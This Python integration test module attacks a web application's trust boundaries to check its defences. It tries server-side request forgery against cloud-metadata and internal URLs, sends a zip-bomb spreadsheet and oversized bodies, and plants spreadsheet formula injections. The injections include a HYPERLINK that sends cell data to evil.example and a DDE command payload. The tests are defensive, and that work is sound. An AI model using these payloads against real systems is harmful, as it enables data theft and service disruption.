"""Outside input (issue 16, trust boundaries), tried as an attacker would against the real
system (real NATS and PostgreSQL, a real uvicorn server):

- feed import pointed at internal addresses (server-side request forgery), directly or by a
  redirect from a feed server the operator trusts: refused when set up (422 naming `url`),
  recorded as the feed's error when a poll meets one, and the internal service never reached;
- one chief editor publishing imported articles alone: a feed set to publish at once waits for
  a second chief editor, and its creator can neither approve it nor its drafts;
- the documents library read outside the units a document is for (meeting papers: the
  meeting's cell);
- formulas in the spreadsheets we export (a unit named `=HYPERLINK(…)`);
- bodies over their route's limit, a zip bomb as a member import, files stored and read back
  in chunks, and more rollout streams than an account or the process may hold.

The world's feed server listens on 127.0.0.2, the network this module's settings trust
(SOTAY_FEED_ALLOW_NETWORKS); everything else on loopback stays refused.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import threading
import time
import zipfile
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from sotay.kit.auth import Grant, mint_token
from tests.attacks.problems import assert_problem, header
from tests.attacks.tally import count
from tests.attacks.world import MEMBERS, world_on

pytestmark = pytest.mark.integration

FEEDS = Path(__file__).parents[1] / "unit" / "content" / "feeds"
TRUSTED_FEED_HOST = "127.0.0.2"
API = "/api/content/v1"


@pytest.fixture(scope="module")
def world(tmp_path_factory, postgres_server):
    with world_on(tmp_path_factory, postgres_server, feed_allow_networks=f"{TRUSTED_FEED_HOST}/32",
                  sse_max_per_user=2, sse_max_streams=3) as world:
        yield world


# --- servers: the operator's trusted feed server, and an internal service it must not reach ----------


class Internal(SimpleHTTPRequestHandler):
    """A service inside the network (the cloud's metadata, an admin page): it counts who reached it."""

    hits: list[str] = []

    def do_GET(self):
        Internal.hits.append(self.path)
        body = b"secret-token-of-the-cluster"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class TrustedFeeds(SimpleHTTPRequestHandler):
    """The feed server on the trusted network: files from its directory, and /to?url=… redirecting anywhere."""

    def do_GET(self):
        if self.path.startswith("/to?url="):
            self.send_response(302)
            self.send_header("Location", self.path.removeprefix("/to?url="))
            self.send_header("Content-Length", "0")
            self.end_headers()
        else:
            super().do_GET()

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def serving(handler, host: str):
    server = ThreadingHTTPServer((host, 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{host}:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    root = tmp_path_factory.mktemp("trusted-feeds")
    (root / "news.xml").write_bytes((FEEDS / "rss2.xml").read_bytes())
    with serving(functools.partial(TrustedFeeds, directory=str(root)), TRUSTED_FEED_HOST) as feeds, \
            serving(Internal, "127.0.0.1") as internal:
        yield root, feeds, internal


def post(world, path: str, headers: dict, **kw) -> httpx.Response:
    count("outside-input requests tried")
    return httpx.post(world.base_url + path, headers=headers, timeout=30, **kw)


def get(world, path: str, headers: dict, **kw) -> httpx.Response:
    count("outside-input requests tried")
    return httpx.get(world.base_url + path, headers=headers, timeout=30, **kw)


def feed_state(world, headers: dict, feed_id: str) -> dict:
    return next(f for f in get(world, f"{API}/feeds", headers).json()["items"] if f["id"] == feed_id)


def eventually(check, timeout: float = 20.0, what: str = "condition"):
    deadline = time.monotonic() + timeout
    while True:
        found = check()
        if found:
            return found
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} not met within {timeout} s")
        time.sleep(0.2)


# --- feed import: server-side request forgery ---------------------------------------------------------


@pytest.mark.parametrize("url", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:4222/",
    "http://localhost:5432/", "http://[::1]:8000/", "http://[::ffff:127.0.0.1]:8000/", "http://[::ffff:a9fe:a9fe]/",
    "http://10.96.0.1/api/v1/secrets", "http://172.17.0.1:2375/containers/json", "http://192.168.1.1/",
    "http://100.100.100.200/latest/meta-data/", "http://0.0.0.0:8000/readyz", "http://[fd00:ec2::254]/",
    "http://[fe80::1]/", "http://224.0.0.1/", "http://2130706433/",
])
def test_a_feed_at_an_internal_address_is_refused_when_set_up(world, url):
    chief = world.auth("chief_editor", "city", subject="chief-ssrf")
    before = world.digest("content")
    response = post(world, f"{API}/feeds", chief, json={"url": url})
    assert response.status_code == 422, (url, response.status_code, response.text)
    problem = assert_problem(422, response.headers, response.content, where=url, field="url")
    assert any("refused address" in e["reason"] for e in problem["errors"]), problem
    assert world.digest("content") == before


def test_a_redirect_to_an_internal_address_is_refused_at_the_hop_and_recorded(world, servers):
    _, feeds, internal = servers
    chief = world.auth("chief_editor", "city", subject="chief-ssrf")
    Internal.hits.clear()
    targets = [f"{internal}/admin", "http://169.254.169.254/latest/meta-data/",
               f"http://[::ffff:127.0.0.1]:{internal.rsplit(':', 1)[1]}/admin",
               f"{feeds}/to?url={internal}/twice"]  # a redirect to a redirect inward
    ids = []
    for target in targets:
        created = post(world, f"{API}/feeds", chief, json={"url": f"{feeds}/to?url={target}"})
        assert created.status_code == 201, created.text  # the trusted feed server itself is fine
        ids.append(created.json()["id"])
    for feed_id, target in zip(ids, targets, strict=True):
        state = eventually(lambda f=feed_id: (s := feed_state(world, chief, f))["last_error"] and s,
                           what=f"a poll of the feed redirecting to {target}")
        assert state["last_error"].startswith("refused address: "), (target, state["last_error"])
        assert state["imported"] == 0
    assert Internal.hits == [], f"the internal service was reached: {Internal.hits}"


# --- two people publish --------------------------------------------------------------------------------


def test_one_chief_editor_alone_cannot_publish_imported_articles(world, servers):
    root, feeds, _ = servers
    creator = world.auth("chief_editor", "city", subject="chief-a")
    second = world.auth("chief_editor", "city", subject="chief-b")
    editor = world.auth("editor", "city", subject="editor-c")
    reader = world.member_auth("cuong")

    created = post(world, f"{API}/feeds", creator, json={"url": f"{feeds}/news.xml", "publish": True})
    assert created.status_code == 201, created.text
    feed_id = created.json()["id"]
    first = eventually(lambda: (s := feed_state(world, creator, feed_id))["last_ok_at"] and s, what="the first poll")

    def from_feed() -> list[dict]:
        items = get(world, f"{API}/feed", reader, params={"limit": 100}).json()["items"]
        return [a for a in items if (a["source_url"] or "").startswith("https://tin.example.vn")]
    assert from_feed() == [], "a feed one chief editor set up published without a second one"
    assert first["imported"] >= 2 and first["publish_approved_by"] is None
    statuses = world.scalar("content", "SELECT string_agg(DISTINCT status, ',') FROM articles WHERE source_feed = :f",
                            f=feed_id)
    assert statuses == "draft"

    # The creator cannot approve the feed, nor get one of its drafts through on their own.
    for who, expected in ((creator, 403), (editor, 403)):
        refused = post(world, f"{API}/feeds/{feed_id}/approve", who)
        assert refused.status_code == expected, refused.text
        assert_problem(expected, refused.headers, refused.content)
    draft = world.scalar("content", "SELECT CAST(id AS text) FROM articles WHERE source_feed = :f LIMIT 1", f=feed_id)
    assert post(world, f"{API}/articles/{draft}/submit", creator).status_code == 200
    approve = post(world, f"{API}/articles/{draft}/approve", creator)
    assert approve.status_code == 403, approve.text
    assert post(world, f"{API}/articles/{draft}/publish", creator).status_code == 409
    assert from_feed() == []

    # A second chief editor approves: the approval is kept, and from now on new entries publish at once.
    approved = post(world, f"{API}/feeds/{feed_id}/approve", second)
    assert approved.status_code == 200 and approved.json()["publish_approved_by"] == "chief-b", approved.text
    assert post(world, f"{API}/feeds/{feed_id}/approve", second).status_code == 409
    history = get(world, f"{API}/feeds/{feed_id}/history", creator).json()["items"]
    assert [(h["actor"], h["action"]) for h in history] == [("chief-a", "create"), ("chief-b", "approve_publishing")]
    extra = ("<item><title>Tin mới sau khi duyệt</title><link>https://tin.example.vn/bai/sau-duyet</link>"
             "<guid>tin-sau-duyet</guid><description>Đã duyệt.</description></item>")
    (root / "news.xml").write_text((FEEDS / "rss2.xml").read_text().replace("</channel>", extra + "</channel>"))
    assert post(world, f"{API}/feeds/{feed_id}/poll", creator).status_code == 202
    published = eventually(lambda: [a["title"] for a in from_feed()], what="the approved feed publishing")
    assert published == ["Tin mới sau khi duyệt"]


# --- the documents library ------------------------------------------------------------------------------


def add_document(world, headers: dict, title: str, audience: list[str] | None, unit: str = "ba-dinh",
                 content: bytes = b"noi dung") -> str:
    data = {"title": title, "kind": "other", "unit": unit} | ({"audience": audience} if audience else {})
    response = post(world, f"{API}/documents", headers, data=data, files={"file": ("tai-lieu.txt", content, "text/plain")})
    assert response.status_code == 201, response.text
    return response.json()["id"]


def reads_document(world, headers: dict, document_id: str) -> dict[str, bool]:
    """What the caller can do with the document: find it in the library and the search, read it, download it."""
    title = get(world, f"{API}/documents/{document_id}", world.auth("editor", "city")).json()["title"]
    listed = any(d["id"] == document_id for d in get(world, f"{API}/documents", headers).json()["items"])
    searched = get(world, f"{API}/search", headers, params={"q": title})
    found = searched.status_code == 200 and any(d["id"] == document_id for d in searched.json()["documents"])
    meta = get(world, f"{API}/documents/{document_id}", headers)
    download = get(world, f"{API}/documents/{document_id}/file", headers)
    bookmark = httpx.put(f"{world.base_url}{API}/documents/{document_id}/bookmark", headers=headers)
    for response in (meta, download, bookmark):
        assert response.status_code in (200, 404), response.text
        if response.status_code == 404:
            assert_problem(404, response.headers, response.content)
            assert title not in response.text
    return {"listed": listed, "searched": found, "metadata": meta.status_code == 200,
            "file": download.status_code == 200, "bookmark": bookmark.status_code == 200}


EVERYTHING = {"listed": True, "searched": True, "metadata": True, "file": True, "bookmark": True}
NOTHING = dict.fromkeys(EVERYTHING, False)


def test_documents_are_read_only_by_the_units_they_are_for(world):
    an, binh, cuong = (world.member_auth(who) for who in ("an", "binh", "cuong"))  # c1, c2 of ba-dinh; tay-ho
    seeded = world.ids["document_ba-dinh"]  # added by ba-dinh's editor, for ba-dinh
    assert reads_document(world, an, seeded) == EVERYTHING
    assert reads_document(world, binh, seeded) == EVERYTHING
    assert reads_document(world, cuong, seeded) == NOTHING
    assert reads_document(world, world.auth("chief_editor", "tay-ho"), seeded) == NOTHING

    for_c1 = add_document(world, world.auth("editor", "ba-dinh"), "Tài liệu riêng chi bộ một", ["bd-g1-c1"])
    assert reads_document(world, an, for_c1) == EVERYTHING
    assert reads_document(world, binh, for_c1) == NOTHING  # another cell of the same committee
    assert reads_document(world, cuong, for_c1) == NOTHING


def test_meeting_papers_are_read_by_the_meetings_cell_and_handed_on_only_by_who_may_read_them(world):
    an, binh, cuong = (world.member_auth(who) for who in ("an", "binh", "cuong"))
    # A paper for cell 2, which the staff of ba-dinh who also runs cell 1's meetings sends ahead of cell 1's.
    paper = add_document(world, world.auth("editor", "ba-dinh"), "Dự thảo báo cáo chi bộ hai", ["bd-g1-c2"])
    assert reads_document(world, an, paper) == NOTHING
    staff = mint_token(world.system.settings.signing_key(), "staff-ba-dinh",
                       [Grant("editor", "ba-dinh"), Grant("cell_secretary", "bd-g1-c1")])
    meeting = post(world, f"{API}/meetings", {"Authorization": f"Bearer {staff}"}, json={
        "cell": "bd-g1-c1", "starts_at": "2031-03-05T19:00:00+07:00", "place": "Hội trường", "agenda": "Góp ý",
        "documents": [paper]})
    assert meeting.status_code == 201, meeting.text
    assert reads_document(world, an, paper) == EVERYTHING  # the meeting's cell
    assert reads_document(world, binh, paper) == EVERYTHING  # the cell it is for
    assert reads_document(world, cuong, paper) == NOTHING

    # No one hands on what they may not read: tay-ho's secretary and editor, ba-dinh's papers.
    for headers, path, body, field in (
            (world.auth("cell_secretary", "th-g1-c1"), "/meetings",
             {"cell": "th-g1-c1", "starts_at": "2031-03-06T19:00:00+07:00", "place": "x", "agenda": "x",
              "documents": [paper]}, "documents"),
            (world.auth("editor", "tay-ho"), "/articles",
             {"title": "Tin lạ", "body": "x", "category": "news", "audience": ["tay-ho"], "unit": "tay-ho",
              "attachments": [world.ids["document_ba-dinh"]]}, "attachments")):
        response = post(world, API + path, headers, json=body)
        assert response.status_code == 422, response.text
        assert_problem(422, response.headers, response.content, field=field)
    assert reads_document(world, cuong, paper) == NOTHING


def test_files_are_kept_and_sent_in_chunks(world):
    content = bytes(range(256)) * (10 * 2**10 + 123)  # 2.5 MiB and a bit: three chunks
    document_id = add_document(world, world.auth("editor", "ba-dinh"), "Tệp lớn", None, content=content)
    with httpx.stream("GET", f"{world.base_url}{API}/documents/{document_id}/file",
                      headers=world.member_auth("an"), timeout=30) as response:
        assert response.status_code == 200
        assert int(response.headers["content-length"]) == len(content)
        assert response.read() == content
    chunks = world.scalar("content", "SELECT count(*) || ':' || max(octet_length(data)) FROM document_chunks "
                                     "WHERE document_id = :d", d=document_id)
    assert chunks == f"3:{2**20}"


# --- uploads and bodies -------------------------------------------------------------------------------------


def written(world) -> dict:
    """The tables a refused body could have written to, once replicas have caught up with what earlier tests
    did (metrics' own snapshots move on by themselves)."""
    return {name: world.quiet_digest(name) for name in ("members", "identity", "content")} | {
        "metrics.training_sessions": world.digest("metrics")["training_sessions"]}


def test_small_routes_take_small_bodies_and_uploads_their_own(world):
    before = written(world)
    big_form = {"grant_type": "password", "username": MEMBERS["an"][1], "password": "x" * (200 * 2**10)}
    for response in (
            post(world, "/api/identity/v1/token", {}, data=big_form),
            post(world, "/api/identity/v1/token", {"Content-Type": "application/x-www-form-urlencoded"},
                 content=iter([b"grant_type=password&password=", b"x" * (200 * 2**10)])),
            post(world, "/api/members/v1/org-units", world.auth("city_admin"),
                 json={"code": "x", "name": "y" * (200 * 2**10), "kind": "cell", "parent": "bd-g1"}),
            post(world, "/api/identity/v1/registrations", {}, json={"full_name": "a" * (300 * 2**10)}),
            post(world, "/api/metrics/v1/training", world.auth("city_admin"), data={"unit": "city"},
                 files={"file": ("x.bin", b"x" * (3 * 2**20), "application/octet-stream")})):
        assert response.status_code == 413, (response.request.url, response.status_code, response.text[:200])
        assert_problem(413, response.headers, response.content)
    assert written(world) == before
    # What the large routes take still goes through: an article of a megabyte, a document of three.
    article = post(world, f"{API}/articles", world.auth("editor", "ba-dinh"), json={
        "title": "Bài dài", "body": "Nội dung dài. " * 35_000, "category": "news", "audience": ["ba-dinh"]})
    assert article.status_code == 201, article.text[:300]
    add_document(world, world.auth("editor", "ba-dinh"), "Tài liệu ba megabyte", None, content=b"x" * (3 * 2**20))


def zip_bomb_workbook() -> bytes:
    """A real workbook (one member) whose sheet inflates from about 100 KB to 100 MB: whitespace
    any XML parser reads through, squeezed a thousand times."""
    book = Workbook()
    sheet = book.active
    sheet.append(["party_card_no", "full_name", "date_of_birth", "unit"])
    sheet.append(["0100000066", "Người Bom", "1980-01-01", "bd-g1-c1"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b" " * (100 * 2**20) + b"</sheetData>")
            dst.writestr(item.filename, data)
    return out.getvalue()


def test_a_zip_bomb_import_is_refused_before_it_is_opened(world):
    bomb = zip_bomb_workbook()
    assert len(bomb) < 2**20
    before = world.digest("members")
    response = post(world, "/api/members/v1/imports", world.auth("city_admin"), params={"wait": "true"},
                    files={"file": ("dang-vien.xlsx", bomb,
                                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")})
    assert response.status_code == 422, (response.status_code, response.text[:300])
    problem = assert_problem(422, response.headers, response.content, field="file")
    assert "inflates" in problem["errors"][0]["reason"], problem
    assert world.digest("members") == before


# --- the rollout stream -----------------------------------------------------------------------------------------


def test_rollout_streams_are_capped_per_account_and_in_all(world):
    url = f"{world.base_url}/api/metrics/v1/rollout/stream"
    alice, bob, carol = (world.auth("city_admin", subject=who) for who in ("alice", "bob", "carol"))

    def opened(stack: contextlib.ExitStack, client: httpx.Client, headers: dict) -> httpx.Response:
        count("outside-input requests tried")
        response = stack.enter_context(client.stream("GET", url, headers=headers, timeout=30))
        if response.status_code >= 400:
            response.read()
        return response

    with httpx.Client(limits=httpx.Limits(max_connections=20)) as client, contextlib.ExitStack() as stack:
        first, second = opened(stack, client, alice), opened(stack, client, alice)
        assert (first.status_code, second.status_code) == (200, 200)
        third = opened(stack, client, alice)
        assert third.status_code == 429 and header(third.headers, "retry-after").isdigit()
        assert_problem(429, third.headers, third.content)
        assert opened(stack, client, bob).status_code == 200  # three open: the process's cap
        full = opened(stack, client, carol)
        assert full.status_code == 503 and header(full.headers, "retry-after").isdigit()
        assert_problem(503, full.headers, full.content)
        first.close()

        def carol_gets_one():
            with client.stream("GET", url, headers=carol, timeout=30) as response:
                return response.status_code == 200
        eventually(carol_gets_one, what="a closed stream's place freed")


# --- spreadsheets we write --------------------------------------------------------------------------------

FORMULAS = {"bd-g1-c7": '=HYPERLINK("http://evil.example/steal?d="&A1,"Xem chi tiết")',
            "bd-g1-c8": "@SUM(1+1)*cmd|' /C calc'!A0", "bd-g1-c9": "+1+1", "bd-g1-c6": "-2+3"}


# Last of the module: the units it adds reach every service's replica in their own time.
def test_exports_write_formulas_as_text(world):
    admin = world.auth("city_admin")
    for code, name in FORMULAS.items():
        created = post(world, "/api/members/v1/org-units", admin,
                       json={"code": code, "name": name, "kind": "cell", "parent": "bd-g1"})
        assert created.status_code == 201, created.text

    def csv_rows():
        response = get(world, "/api/metrics/v1/reports/rollout.csv", admin, params={"unit": "bd-g1"})
        # A title line, then the headings (Vietnamese, ';' between fields: reports.as_csv).
        lines = response.content.decode("utf-8-sig").splitlines()[1:]
        rows = list(csv.DictReader(lines, delimiter=";"))
        return rows if len(rows) == 1 + 2 + len(FORMULAS) else None
    rows = eventually(csv_rows, what="metrics knowing the new units")
    names = {r["Mã đơn vị"]: r["Đơn vị"] for r in rows}
    for code, name in FORMULAS.items():
        assert names[code] == "'" + name, (code, names[code])
    assert all(r["Tổng số đảng viên"].isdigit() for r in rows)  # numbers stay numbers

    xlsx = get(world, "/api/metrics/v1/reports/rollout.xlsx", admin, params={"unit": "bd-g1"})
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, "a formula in the workbook"
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header_row = [c.value for c in sheet[2]]  # under the title row
    name_column, total_column = header_row.index("Đơn vị"), header_row.index("Tổng số đảng viên")
    code_column = header_row.index("Mã đơn vị")
    written = {row[code_column].value: row[name_column] for row in sheet.iter_rows(min_row=3)}
    for code, name in FORMULAS.items():
        assert written[code].data_type == "s" and written[code].value == name, code
    assert all(row[total_column].data_type == "n" for row in sheet.iter_rows(min_row=3))
